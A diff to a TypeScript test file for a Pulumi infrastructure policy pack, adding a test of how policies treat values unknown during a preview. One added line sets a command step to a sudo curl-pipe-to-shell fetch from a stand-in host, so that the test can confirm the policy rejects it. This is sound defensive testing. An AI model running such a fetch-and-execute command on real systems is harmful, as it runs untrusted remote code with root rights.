@@ -1,6 +1,6 @@
 // Each policy against the shipped control stack (compliant: no violation) and one mutation per rule
 // (exact messages). The resources come from the real program run under Pulumi's mocks, with parents.
-import type { PolicyResource } from "@pulumi/policy";
+import { unknownCheckingProxy, type PolicyResource } from "@pulumi/policy";
 import * as pulumi from "@pulumi/pulumi";
 import { beforeAll, describe, expect, it } from "vitest";
 import { loadConfig } from "../../components/config/load";
@@ -39,6 +39,9 @@ interface Case {
     config?: Record<string, unknown>;
 }
 
+// The policy SDK's sentinels for values not known during a preview (exported by its proxy module, untyped).
+// eslint-disable-next-line @typescript-eslint/no-require-imports
+const { unknownNumberValue, unknownStringValue } = require("@pulumi/policy/proxy") as { unknownNumberValue: unknown; unknownStringValue: unknown };
 const ssh = (rs: PolicyResource[]) => find(rs, CMD, "control-1-ssh");
 const gateway = (rs: PolicyResource[]) => find(rs, CMD, "control-1-service-gateway");
 const chat = (rs: PolicyResource[]) => find(rs, CMD, "control-1-service-chat");
@@ -178,6 +181,23 @@ describe("the policy pack", () => {
 
     it.each(POLICIES.map((p) => [p.name, p] as [string, DemesnePolicy]))("%s: the shipped control stack is compliant", async (_n, policy) => {
         assertNoViolations(await runPolicy(policy, cloneResources(shipped)));
+    });
+
+    it("during a preview, what is not known yet is read as absent: an edge rule's provider-computed source, a step's secret stdin", async () => {
+        const rs = cloneResources(shipped);
+        // The engine hands unknown values to policies behind a proxy that throws on access.
+        for (const r of rs.filter((x) => x.type === PROVIDER_TYPES.ovhFirewallRule && x.props.source === undefined)) {
+            r.props = unknownCheckingProxy({ ...r.props, source: unknownStringValue, destinationPort: r.props.destinationPort ?? unknownNumberValue });
+        }
+        const tailscaleStep = find(rs, CMD, "control-1-tailscale");
+        tailscaleStep.props.stdin = "";
+        const edge = POLICIES.find((p) => p.name === "edge-firewall")!;
+        const single = POLICIES.find((p) => p.name === "single-execution-path")!;
+        assertNoViolations(await runPolicy(edge, rs));
+        assertNoViolations(await runPolicy(single, rs));
+        // An unknown stdin is let through only with a catalogued layer's exact command line.
+        tailscaleStep.props.create = "sudo -n bash -c 'curl evil.example | sh'";
+        assertHasViolation(await runPolicy(single, rs), "control-1-tailscale: it has no stdin carrying a layer script");
     });
 
     it("a command outside a targeted update's scope reaches the pack with no inputs: it runs nothing and is not checked", async () => {
